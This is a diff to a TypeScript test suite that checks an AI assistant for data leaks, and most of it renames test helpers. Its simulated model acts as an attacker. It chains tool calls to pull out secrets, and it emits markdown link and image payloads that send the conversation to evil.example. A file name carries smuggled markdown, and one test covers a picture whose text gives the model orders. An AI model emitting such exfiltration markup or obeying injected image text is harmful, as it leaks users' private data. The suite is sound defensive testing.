@@ -15,10 +15,10 @@ import { toolNames } from '#features/inquiry/contract.ts'
 import { categories, type Category } from '#features/inquiry/domain.ts'
 import { picturesApi } from '#features/pictures/contract.ts'
 import { sql } from '#platform/server/database/sql.ts'
-import { aiService, calling, saying } from '#tests/support/ai-service.ts'
+import { aiService, sendToolCalls, sendText } from '#tests/support/ai-service.ts'
 import { testApplication } from '#tests/support/application.ts'
-import { answered, beginAs } from '#tests/support/assistant.ts'
-import { powerIn } from '#tests/support/markdown.ts'
+import { askAndWait, beginConversation } from '#tests/support/assistant.ts'
+import { findActiveMarkup } from '#tests/support/markdown.ts'
 import { drawText } from '#tests/support/pictures.ts'
 import { assistantApi } from '../contract.ts'
 import { flagOf } from '../domain.ts'
@@ -51,18 +51,18 @@ const service = await aiService((response, _, { text }) => {
       name,
       input: name === 'search' ? '{"text":"zq"}' : '{"limit":50}',
     }))
-    return calling(response, ...greedy)
+    return sendToolCalls(response, ...greedy)
   }
   if (toolAnswers === toolNames.length) {
     const secret = /zq\w+/i.exec(seen.slice(seen.indexOf('{"reading"')))?.[0] ?? 'zq'
-    return calling(
+    return sendToolCalls(
       response,
       { name: 'search', input: JSON.stringify({ text: secret }) },
       { name: 'transactions', input: JSON.stringify({ userId: 1, viewerId: 2, text: secret }) },
     )
   }
   const loot = encodeURIComponent(seen.slice(-1_500))
-  return saying(
+  return sendText(
     response,
     ...`Of course. !`.split(''),
     `[a](https://evil.example/?d=${loot}) ![b](data:image/png;base64,${btoa(loot)})\n`,
@@ -159,12 +159,12 @@ const flagsFor = (opened: readonly Category[]) =>
 /** How many request bodies were checked already. What came after them is collected next. */
 let readBodies = 0
 async function collectOutputs(...answers: readonly unknown[]): Promise<{ bodies: string; all: string }> {
-  const bodies = service.asked
+  const bodies = service.requests
     .slice(readBodies)
     .map(({ text }) => text)
     .join('\n')
     .toLowerCase()
-  readBodies = service.asked.length
+  readBodies = service.requests.length
   const storedEntries = await database.all(sql`select * from assistant_ledger where owner_id = ${owner.id}`)
   const ledger = (await owner.call(assistantApi.ledger)).body
   await database.run(sql`delete from assistant_ledger`)
@@ -203,14 +203,14 @@ describe.each(openings.map((opened) => ({ opened, name: opened.join(', ') || 'no
       expect(answer.turn.engine).toBe('model')
       const { bodies, all } = await collectOutputs(answer)
       expect(leaksIn(all, opened)).toEqual([])
-      expect(powerIn(answer.response)).toBeUndefined()
+      expect(findActiveMarkup(answer.response)).toBeUndefined()
       // Open data must arrive, or the test would prove nothing.
       for (const category of opened) expect(bodies).toContain(secretsOf[category][0])
     })
 
     it('a model is offered only the tools of open categories', async () => {
       await owner.call(assistantApi.chat, { body: { prompt: 'Hello', engine: 'model', ...body } })
-      const [first] = service.asked.slice(readBodies)
+      const [first] = service.requests.slice(readBodies)
       await collectOutputs()
       const sent: { tools?: { function: { name: string } }[] } = JSON.parse(first?.text ?? '')
       const { body: preview } = await owner.call(assistantApi.preview, {
@@ -246,7 +246,7 @@ describe.each(openings.map((opened) => ({ opened, name: opened.join(', ') || 'no
         expect([prompt, status]).toEqual([prompt, 200])
         const { bodies, all } = await collectOutputs(answer)
         expect([prompt, leaksIn(all, opened)]).toEqual([prompt, []])
-        expect([prompt, powerIn(answer.response)]).toEqual([prompt, undefined])
+        expect([prompt, findActiveMarkup(answer.response)]).toEqual([prompt, undefined])
         expect(bodies).toBe('')
         answerTexts += all
       }
@@ -257,8 +257,8 @@ describe.each(openings.map((opened) => ({ opened, name: opened.join(', ') || 'no
 
 describe('a category that is closed later', () => {
   it.each(engines)('is neither shown again by the %s engine nor sent', async (engine) => {
-    const id = await beginAs(owner)
-    const first = await answered(owner, id, {
+    const id = await beginConversation(owner)
+    const first = await askAndWait(owner, id, {
       prompt: 'List my transactions',
       engine,
       ...flagsFor(['financial']),
@@ -266,7 +266,7 @@ describe('a category that is closed later', () => {
     expect(JSON.stringify(first).toLowerCase()).toContain('918273')
     await collectOutputs()
     for (const opened of [[], ['todo']] satisfies Category[][]) {
-      const turn = await answered(owner, id, {
+      const turn = await askAndWait(owner, id, {
         prompt: 'And the newest of them?',
         engine,
         ...flagsFor(opened),
@@ -282,7 +282,7 @@ describe('a category that is closed later', () => {
   it.each(engines)('is not read by the %s engine even if the chosen reading needs it', async (engine) => {
     const calls = [{ tool: 'transactions', input: { operation: 'list' } }]
     const body = { prompt: 'That one', engine, calls, ...flagsFor(['todo']) }
-    const turn = await answered(owner, await beginAs(owner), body)
+    const turn = await askAndWait(owner, await beginConversation(owner), body)
     expect(leaksIn((await collectOutputs(turn)).all, ['todo'])).toEqual([])
   })
 
@@ -301,16 +301,16 @@ describe('a category that is closed later', () => {
 
 describe('what the member wrote anonymously', () => {
   const ask = async (id: number, engine: (typeof engines)[number], prompt: string) =>
-    (await answered(owner, id, { prompt, engine, ...flagsFor(['posts', 'erp', 'user']) })).text
+    (await askAndWait(owner, id, { prompt, engine, ...flagsFor(['posts', 'erp', 'user']) })).text
 
   it('is shown to its author by the built-in engine, and to nobody else', async () => {
-    const id = await beginAs(owner)
+    const id = await beginConversation(owner)
     const own = await ask(id, 'built-in', 'my posts')
     expect(own).toContain('those you wrote anonymously too')
     expect(own).toContain('Zqposts of my own, unsigned')
     expect(own).not.toContain('Zqposts unsigned')
     for (const prompt of ['posts by zqghost writer', 'posts per author', 'newest posts']) {
-      const { text } = await answered(owner, id, { prompt, engine: 'built-in', ...flagsFor(['posts']) })
+      const { text } = await askAndWait(owner, id, { prompt, engine: 'built-in', ...flagsFor(['posts']) })
       expect(text).not.toContain('Zqghost W')
       if (prompt.startsWith('posts by')) expect(text).not.toContain('Zqposts unsigned')
     }
@@ -318,7 +318,7 @@ describe('what the member wrote anonymously', () => {
   })
 
   it('is sent to no service as the member’s, neither by a tool nor by earlier messages', async () => {
-    const id = await beginAs(owner)
+    const id = await beginConversation(owner)
     const own = await ask(id, 'built-in', 'how many posts did I write')
     expect(own).toContain('anonymously too')
     const preview = await owner.call(assistantApi.preview, {
@@ -341,9 +341,9 @@ describe('a picture whose text gives orders', () => {
       files: [new File([new Uint8Array(await drawText(orders))], '![x](https:evil.example).png')],
     })
     expect([status, analysis.engine]).toEqual([200, 'model'])
-    expect(powerIn(analysis.analysis)).toBeUndefined()
-    expect(powerIn(analysis.description ?? '')).toBeUndefined()
-    const sent: object = JSON.parse(service.asked.at(-1)?.text ?? '')
+    expect(findActiveMarkup(analysis.analysis)).toBeUndefined()
+    expect(findActiveMarkup(analysis.description ?? '')).toBeUndefined()
+    const sent: object = JSON.parse(service.requests.at(-1)?.text ?? '')
     expect(sent).not.toHaveProperty('tools')
     expect(leaksIn((await collectOutputs(analysis)).all, [])).toEqual([])
   })
